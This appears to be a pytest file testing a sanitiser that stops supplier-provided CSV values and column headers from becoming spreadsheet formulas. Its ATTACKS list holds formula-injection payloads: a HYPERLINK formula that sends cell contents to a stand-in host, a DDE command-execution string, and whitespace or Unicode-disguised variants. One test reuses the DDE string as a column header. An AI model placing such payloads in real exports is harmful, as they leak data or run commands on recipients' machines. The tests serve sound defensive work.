"""What a supplier writes cannot become a formula in a table that a person opens."""

import csv

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from ingest.receiving import HOURLY, Platform, call
from samples import examples
from samples.files import csv_bytes

from kdi.notation.spreadsheet import harmless

ATTACKS = [
    "=HYPERLINK(\"http://ond.example?\"&A1;\"Klik\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)", "\t=1+1", "\r=1+1",
    "\n=1", " =1+1", "\uff1d1+1", "\u00a0=1+1",
]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", ["Brønderslev", "27.36.04", "a=b", "", 12, -3, None])
def test_anything_else_is_left_alone(value: object) -> None:
    assert harmless(value) == value


@given(st.text())
@settings(max_examples=examples.of(200), derandomize=True, database=None)
def test_no_text_comes_out_as_a_formula(text: str) -> None:
    shown = harmless(text)
    assert isinstance(shown, str)
    assert not shown.lstrip().startswith(("=", "+", "-", "@"))


def test_a_header_of_the_suppliers_in_the_list_of_faults(platform: Platform) -> None:
    """The one place where a supplier's own words reach the quarantine: the header of an unknown column."""
    row = {**call("2022-01-03T08:00:00+01:00"), "=cmd|' /C calc'!A0": "311299-9999"}
    platform.put("stoettesystemerne", "stoettesystemerne_2022-01-03.csv", csv_bytes([row]))
    (delivery,) = platform.take_in(HOURLY).deliveries
    with (platform.settings.quarantine / delivery.leverance_id / "fejl.csv").open(encoding="utf-8") as stream:
        (fault,) = list(csv.DictReader(stream, delimiter=";"))
    assert (fault["kode"], fault["kolonne"]) == ("cpr_nummer", "'=cmd|' /C calc'!A0")
